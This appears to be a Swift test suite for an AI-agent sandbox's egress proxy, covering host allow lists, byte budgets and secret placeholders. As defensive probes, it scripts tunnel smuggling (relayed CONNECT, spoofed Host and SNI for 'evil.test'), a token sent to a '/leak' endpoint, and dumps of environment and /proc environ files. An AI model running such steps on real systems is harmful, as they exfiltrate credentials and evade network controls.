import AirlockTestSupport
import Foundation
import Testing

/// `--network proxy` end to end: the real binary, real sandboxes, the real proxy, and HTTP
/// and HTTPS servers the tests run on loopback. Names like `allowed.test` are pinned to
/// 127.0.0.1 with `--resolve`; nothing leaves the machine.
@Suite("Egress through the proxy", .enabled(if: AirlockCLI.available && hasPython3, "needs the built airlock and python3"),
       .timeLimit(.minutes(2)))
struct EgressCLITests {
    /// A workspace holding the client script.
    static func workspace() throws -> CLIWorkspace {
        let workspace = try CLIWorkspace()
        try EgressClient.script.write(toFile: workspace.path + "/client.py", atomically: true, encoding: .utf8)
        return workspace
    }

    static func proxyOptions(_ port: Int, allow: [String] = ["allowed.test"], pin: [String] = ["allowed.test", "other.test", "evil.test"]) -> [String] {
        allow.flatMap { ["--allow-host", "\($0):\(port)"] } + pin.flatMap { ["--resolve", "\($0):127.0.0.1"] }
    }

    static func objects(_ text: String) -> [[String: Any]] {
        text.split(separator: "\n").compactMap {
            (try? JSONSerialization.jsonObject(with: Data($0.utf8))) as? [String: Any]
        }
    }

    @Test("an allowed host is reached; an unlisted one is refused, never contacted, and both are reported")
    func allowedAndUnlisted() async throws {
        let workspace = try Self.workspace()
        defer { workspace.remove() }
        try await TestHTTPServer.with([.json(#"{"hello":"allowed"}"#)]) { server in
            let options = Self.proxyOptions(server.port)
            let allowed = try await workspace.exec(["python3", "client.py", "get", "http://allowed.test:\(server.port)/a?x=1"],
                                                   options: options + ["--json"])
            let reply = try #require(Self.objects(allowed.stdout).first, "stdout: \(allowed.stdout) stderr: \(allowed.stderr)")
            #expect(reply["status"] as? Int == 200)
            #expect((reply["body"] as? String)?.contains("allowed") == true)
            #expect(server.requests.count == 1)
            #expect(server.requests.first?.uri == "/a?x=1", "forwarded in origin form")
            let records = Self.objects(allowed.stderr).filter { $0["type"] as? String == "egress" }
            let record = try #require(records.first?["record"] as? [String: Any], "stderr: \(allowed.stderr)")
            #expect(record["allowed"] as? Bool == true)
            #expect(record["host"] as? String == "allowed.test")
            #expect((record["bytesDown"] as? Int ?? 0) > 0)

            let unlisted = try await workspace.exec(["python3", "client.py", "get", "http://other.test:\(server.port)/b"],
                                                    options: options)
            let refused = try #require(Self.objects(unlisted.stdout).first, "stdout: \(unlisted.stdout)")
            #expect(refused["status"] as? Int == 403)
            #expect(server.requests.count == 1, "the unlisted host was never contacted")
            #expect(unlisted.stderr.contains("other.test"))
            #expect(unlisted.stderr.contains("refused"))
        }
    }

    @Test("IP literals, IPv6 literals, direct connects and DNS all fail inside")
    func literalsDirectAndDNS() async throws {
        let workspace = try Self.workspace()
        defer { workspace.remove() }
        try await TestHTTPServer.with([.json("{}"), .json("{}")]) { server in
            let options = Self.proxyOptions(server.port)
            for url in ["http://127.0.0.1:\(server.port)/", "http://[::1]:\(server.port)/", "http://2130706433:\(server.port)/"] {
                let outcome = try await workspace.exec(["python3", "client.py", "get", url], options: options)
                let reply = try #require(Self.objects(outcome.stdout).first, "\(url): \(outcome.stdout) \(outcome.stderr)")
                #expect(reply["status"] as? Int == 403 || reply["error"] != nil, "\(url) was not refused: \(reply)")
            }
            let direct = try await workspace.exec(["python3", "client.py", "direct", "127.0.0.1", String(server.port)], options: options)
            #expect(Self.objects(direct.stdout).first?["direct"] as? String == "failed", "\(direct.stdout)")
            let dns = try await workspace.exec(["python3", "client.py", "dns", "allowed.test"], options: options)
            #expect(Self.objects(dns.stdout).first?["dns"] as? String == "failed", "\(dns.stdout)")
            #expect(server.requests.isEmpty, "no request reached the server: \(server.requests.map(\.uri))")
        }
    }

    @Test("inside a tunnel: a relayed CONNECT and a Host other than the target are refused; the honest request passes")
    func tunnelTricks() async throws {
        let workspace = try Self.workspace()
        defer { workspace.remove() }
        try await TestHTTPServer.with([.json(#"{"tunnel":"ok"}"#)]) { server in
            let options = Self.proxyOptions(server.port)
            let target = "allowed.test:\(server.port)"
            let relayed = try await workspace.exec(["python3", "client.py", "tunnel", target,
                                                    "CONNECT other.test:\(server.port) HTTP/1.1\\r\\nHost: other.test:\(server.port)\\r\\n\\r\\n"],
                                                   options: options)
            let relayedReply = try #require(Self.objects(relayed.stdout).first, "\(relayed.stdout) \(relayed.stderr)")
            #expect(!(relayedReply["inside"] as? String ?? "").contains(" 200"), "relayed CONNECT answered: \(relayedReply)")
            let spoofed = try await workspace.exec(["python3", "client.py", "tunnel", target,
                                                    "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"], options: options)
            let spoofedReply = try #require(Self.objects(spoofed.stdout).first, "\(spoofed.stdout)")
            #expect(!(spoofedReply["inside"] as? String ?? "").contains("HTTP/1.1 200"), "Host evil.test answered: \(spoofedReply)")
            #expect(server.requests.isEmpty, "neither trick reached the server: \(server.requests.map { $0.method + " " + $0.uri })")
            // The control: the same tunnel with an honest Host works, so the refusals above are real.
            let honest = try await workspace.exec(["python3", "client.py", "tunnel", target,
                                                   "GET /honest HTTP/1.1\\r\\nHost: \(target)\\r\\nConnection: close\\r\\n\\r\\n"],
                                                  options: options)
            let honestReply = try #require(Self.objects(honest.stdout).first, "\(honest.stdout) \(honest.stderr)")
            #expect((honestReply["inside"] as? String ?? "").contains("200"), "honest request: \(honestReply)")
            #expect(server.requests.map(\.uri) == ["/honest"])
        }
    }

    @Test("TLS through a tunnel: an SNI other than the CONNECT target is refused; the matching SNI passes")
    func sniMismatch() async throws {
        let workspace = try Self.workspace()
        defer { workspace.remove() }
        let certificates = try TestCertificates()
        let tls = try certificates.serverContext(for: ["allowed.test", "evil.test"])
        try await TestHTTPServer.with([.json(#"{"tls":"ok"}"#)], tls: tls) { server in
            let options = Self.proxyOptions(server.port)
            let target = "allowed.test:\(server.port)"
            let evil = try await workspace.exec(["python3", "client.py", "sni", target, "evil.test"], options: options)
            let evilReply = try #require(Self.objects(evil.stdout).first, "\(evil.stdout) \(evil.stderr)")
            #expect(evilReply["handshake"] as? String == "failed", "SNI evil.test got through: \(evilReply)")
            #expect(server.requests.isEmpty)
            let honest = try await workspace.exec(["python3", "client.py", "sni", target, "allowed.test"], options: options)
            let honestReply = try #require(Self.objects(honest.stdout).first, "\(honest.stdout) \(honest.stderr)")
            #expect(honestReply["handshake"] as? String == "ok", "\(honestReply)")
            #expect(server.requests.count == 1)
        }
    }

    @Test("a run with --max-egress that downloads too much ends with exit 3; every request is in a ledger that verifies")
    func maxEgressStopsRun() async throws {
        let scene = try RunScene()
        defer { scene.remove() }
        try EgressClient.script.write(toFile: scene.workspace + "/client.py", atomically: true, encoding: .utf8)
        let big = [UInt8](repeating: 0x61, count: 600 * 1024)
        let responses = (0..<4).map { _ in CannedResponse(headers: [("content-length", String(big.count))], chunks: [big], pause: .zero) }
        try await TestHTTPServer.with(responses) { server in
            let get = "python3 client.py get http://allowed.test:\(server.port)/big"
            let model = try scene.script([RunScene.shell(get), RunScene.shell(get), RunScene.shell(get), RunScene.shell(get),
                                          RunScene.submit("downloaded")])
            let outcome = try await scene.run(["--model", model, "--json", "--max-egress", "1M"] + Self.proxyOptions(server.port))
            #expect(outcome.status == 3, "stdout: \(outcome.stdout) stderr: \(outcome.stderr)")
            let events = outcome.objects.compactMap { $0 }
            let finished = try #require(events.last)
            #expect((finished["reason"] as? String ?? "").contains("egress"), "\(finished)")
            #expect(server.requests.count < 4, "the budget stopped the downloads")
            let runID = try #require(finished["run"] as? String)
            let show = try await scene.command(["show", runID, "--json"])
            let ledger = (show.objects.first??["ledger"] as? [[String: Any]]) ?? []
            let egress = ledger.filter { $0["kind"] as? String == "egress_request" }
            #expect(egress.count >= 2, "egress entries: \(egress.count)")
            #expect(egress.allSatisfy { (($0["payload"] as? [String: Any])?["call"] as? String) != nil }, "each names its tool call")
            let verify = try await scene.command(["verify", runID])
            #expect(verify.status == 0, "\(verify.stdout) \(verify.stderr)")
        }
    }

    @Test("on_budget_exhausted: ask with --max-egress: the cut download asks, `approve --extend BYTES` raises the proxy's cap, the next download passes")
    func egressExtendedWhileRunning() async throws {
        let scene = try RunScene()
        defer { scene.remove() }
        try EgressClient.script.write(toFile: scene.workspace + "/client.py", atomically: true, encoding: .utf8)
        let policy = scene.root + "/policy.yaml"
        try "on_budget_exhausted: ask\n".write(toFile: policy, atomically: true, encoding: .utf8)
        let big = [UInt8](repeating: 0x61, count: 600 * 1024)
        let responses = (0..<3).map { _ in CannedResponse(headers: [("content-length", String(big.count))], chunks: [big], pause: .zero) }
        try await TestHTTPServer.with(responses) { server in
            let get = { (name: String) in "python3 client.py get http://allowed.test:\(server.port)/big > \(name).json" }
            let model = try scene.script([RunScene.shell(get("first")), RunScene.shell(get("second")),
                                          RunScene.shell(get("third")), RunScene.submit("downloaded")])
            let run = try DurabilityHarness(["run", "download", "--model", model, "--workspace", scene.workspace,
                                             "--state-dir", scene.stateDir, "--policy", policy, "--approver", "web",
                                             "--max-egress", "1M", "--json"] + Self.proxyOptions(server.port))
            defer { run.cleanUp() }
            #expect(await run.waitForOutput { $0.contains("approval_requested") }, "no budget question: \(run.stderr)")
            #expect(try await scene.command(["approve", "latest"]).stdout.hasPrefix("budget-1\t"))
            let extended = try await scene.command(["approve", "latest", "budget-1", "--extend", "2000000"])
            #expect(extended.status == 0, "\(extended.stderr)")
            let end = await run.wait(limit: .seconds(60))
            #expect(end.status == 0, "\(run.stderr)")
            let read = { (name: String) in
                (try? JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: scene.workspace + "/\(name).json")))) as? [String: Any]
            }
            #expect(read("first")?["bytes"] as? Int == big.count)
            #expect(read("second")?["bytes"] as? Int != big.count, "the cap cut the second download: \(String(describing: read("second")))")
            #expect(read("third")?["bytes"] as? Int == big.count, "after the extension: \(String(describing: read("third")))")
            let show = try await scene.command(["show", "latest", "--json"])
            let ledger = (show.objects.first??["ledger"] as? [[String: Any]]) ?? []
            let grant = try #require(ledger.first { $0["kind"] as? String == "budget_extended" }?["payload"] as? [String: Any])
            #expect(grant["budget"] as? String == "egress")
            #expect((grant["limit"] as? Double ?? 0) >= 1024 * 1024 + 2_000_000)
            #expect(try await scene.command(["verify", "latest"]).status == 0)
        }
    }

    @Test("a secret reaches its host in a header over intercepted HTTPS, is a placeholder inside, and is nowhere in the state dir")
    func secretNeverEnters() async throws {
        let scene = try RunScene()
        defer { scene.remove() }
        try EgressClient.script.write(toFile: scene.workspace + "/client.py", atomically: true, encoding: .utf8)
        let certificates = try TestCertificates()
        try certificates.caPEM.write(toFile: scene.root + "/upstream-ca.pem", atomically: true, encoding: .utf8)
        let secret = "sk-live-" + UUID().uuidString.replacingOccurrences(of: "-", with: "")
        let tls = try certificates.serverContext(for: ["secret.test"])
        let plain = try await TestHTTPServer.start([.json(#"{"auth":"other"}"#)])
        defer { Task { await plain.shutdown() } }
        try await TestHTTPServer.with([.json(#"{"auth":"seen"}"#)], tls: tls) { server in
            let port = server.port
            let model = try scene.script([
                RunScene.shell("python3 client.py get https://secret.test:\(port)/api 'Authorization: Bearer $API_TOKEN'"),
                RunScene.shell("python3 client.py get http://other.test:\(plain.port)/leak 'Authorization: Bearer $API_TOKEN'"),
                RunScene.shell("env > env.txt; tr '\\0' '\\n' < /proc/self/environ > proc-environ.txt; cat /proc/1/environ > pid1-environ.txt 2>/dev/null; true"),
                RunScene.submit("called"),
            ])
            let options = ["--allow-host", "secret.test:\(port)", "--allow-host", "other.test:\(plain.port)",
                           "--resolve", "secret.test:127.0.0.1", "--resolve", "other.test:127.0.0.1",
                           "--secret", "API_TOKEN", "--secret-host", "API_TOKEN=secret.test:\(port)",
                           "--upstream-ca", scene.root + "/upstream-ca.pem"]
            let outcome = try await scene.run(["--model", model, "--json"] + options, environment: ["API_TOKEN": secret])
            #expect(outcome.status == 0, "stdout: \(outcome.stdout) stderr: \(outcome.stderr)")
            let toSecretHost = server.requests.first { $0.uri == "/api" }
            #expect(toSecretHost?.header("authorization") == "Bearer \(secret)", "the secret host got the real value")
            let toOther = plain.requests.first { $0.uri == "/leak" }
            #expect(toOther != nil, "the other host was reached")
            #expect(toOther?.header("authorization")?.contains(secret) != true, "the other host never got the value")

            let inside = try String(contentsOfFile: scene.workspace + "/env.txt", encoding: .utf8)
            let placeholder = inside.split(separator: "\n").first { $0.hasPrefix("API_TOKEN=") }.map { String($0.dropFirst(10)) }
            #expect(placeholder != nil && placeholder != secret, "inside, $API_TOKEN is a placeholder: \(placeholder ?? "unset")")
            if let placeholder { #expect(toOther?.header("authorization") == "Bearer \(placeholder)") }
            for file in try FileManager.default.subpathsOfDirectory(atPath: scene.workspace) {
                let data = FileManager.default.contents(atPath: scene.workspace + "/" + file) ?? Data()
                #expect(data.range(of: Data(secret.utf8)) == nil, "the secret is in the workspace file \(file)")
            }
            for file in try FileManager.default.subpathsOfDirectory(atPath: scene.stateDir) {
                let data = FileManager.default.contents(atPath: scene.stateDir + "/" + file) ?? Data()
                #expect(data.range(of: Data(secret.utf8)) == nil, "the secret is in the state dir: \(file)")
            }
            #expect(!outcome.stdout.contains(secret) && !outcome.stderr.contains(secret))
        }
    }

    @Test("a run killed mid-way and resumed keeps its network: same placeholder inside, the secret still reaches its host, the ledger verifies")
    func resumeKeepsEgress() async throws {
        let scene = try RunScene.make()
        defer { scene.remove() }
        try EgressClient.script.write(toFile: scene.workspace + "/client.py", atomically: true, encoding: .utf8)
        let secret = "tok-" + UUID().uuidString
        try await TestHTTPServer.with([.json(#"{"n":1}"#), .json(#"{"n":2}"#)]) { server in
            let get = { (path: String) in "python3 client.py get http://secret.test:\(server.port)/\(path) 'X-Token: $API_TOKEN'" }
            let model = try scene.script([
                RunScene.shell(get("one") + "; echo $API_TOKEN > p1.txt"),
                RunScene.shell(get("two") + "; echo $API_TOKEN > p2.txt"),
                RunScene.submit("both"),
            ])
            let options = ["--allow-host", "secret.test:\(server.port)", "--resolve", "secret.test:127.0.0.1",
                           "--secret", "API_TOKEN", "--secret-host", "API_TOKEN=secret.test:\(server.port)"]
            let harness = try scene.harness(["run", "twice", "--model", model, "--workspace", scene.workspace] + options,
                                            environment: ["API_TOKEN": secret, "AIRLOCK_FAULT_KILL_AT": "tool_result:1"])
            defer { harness.cleanUp() }
            let end = await harness.wait()
            #expect(end.reason == .uncaughtSignal && end.status == SIGKILL, "\(harness.stderr)")
            let runID = try #require(try await scene.runs().first?["id"] as? String)

            let withoutSecret = try await scene.command(["resume", runID])
            #expect(withoutSecret.status == 2, "resume needs the secret's value again: \(withoutSecret.stderr)")
            #expect(withoutSecret.stderr.contains("API_TOKEN"))

            let resumed = try await RunBinary.run(["resume", runID, "--state-dir", scene.stateDir], environment: ["API_TOKEN": secret])
            #expect(resumed.status == 0, "\(resumed.stderr)")
            let first = scene.file("p1.txt"), second = scene.file("p2.txt")
            #expect(!first.isEmpty && first == second, "the placeholder survives the restart: \(first) / \(second)")
            #expect(!first.contains(secret))
            #expect(server.requests.map { $0.header("x-token") } == [secret, secret], "both requests carried the real value")
            let egress = try await scene.ledger(runID).filter { $0.kind == "egress_request" }
            #expect(egress.contains { $0.payload["path"] as? String == "/two" && $0.payload["secrets"] as? [String] == ["API_TOKEN"] },
                    "\(egress)")
            let verify = try await scene.command(["verify", runID])
            #expect(verify.status == 0, "\(verify.stdout) \(verify.stderr)")
            for file in try FileManager.default.subpathsOfDirectory(atPath: scene.stateDir) {
                let data = FileManager.default.contents(atPath: scene.stateDir + "/" + file) ?? Data()
                #expect(data.range(of: Data(secret.utf8)) == nil, "the secret is in the state dir: \(file)")
            }
        }
    }

    @Test("a run with network replays without it: calls that did not use the network replay the same")
    func replayHasNoNetwork() async throws {
        let scene = try RunScene.make()
        defer { scene.remove() }
        let model = try scene.script([RunScene.shell("echo offline > f.txt; cat f.txt"), RunScene.submit("done")])
        let run = try await scene.run(["--model", model, "--json", "--snapshot-workspace", "--allow-host", "allowed.test:9"])
        #expect(run.status == 0, "\(run.stderr)")
        let runID = try #require(run.objects.first??["run"] as? String)
        let replay = try await scene.command(["replay", runID])
        #expect(replay.status == 0, "replay: \(replay.stdout) \(replay.stderr)")
        #expect(replay.stdout.contains("0 different"), "\(replay.stdout)")
    }

    @Test("usage mistakes are exit 2 with a message: no allow list, a secret without a host, a host not allowed")
    func usageErrors() async throws {
        let workspace = try Self.workspace()
        defer { workspace.remove() }
        let noHosts = try await workspace.exec(["true"], options: ["--network", "proxy"])
        #expect(noHosts.status == 2)
        #expect(noHosts.stderr.contains("--allow-host"))
        let noSecretHost = try await workspace.exec(["true"], options: ["--allow-host", "a.test", "--secret", "HOME"])
        #expect(noSecretHost.status == 2)
        #expect(noSecretHost.stderr.contains("--secret-host"))
        let notAllowed = try await workspace.exec(["true"], options: ["--allow-host", "a.test", "--secret", "HOME",
                                                                      "--secret-host", "HOME=b.test"])
        #expect(notAllowed.status == 2)
        #expect(notAllowed.stderr.contains("not an allowed host"))
        let badRule = try await workspace.exec(["true"], options: ["--allow-host", "bad host!"])
        #expect(badRule.status == 2)
    }
}
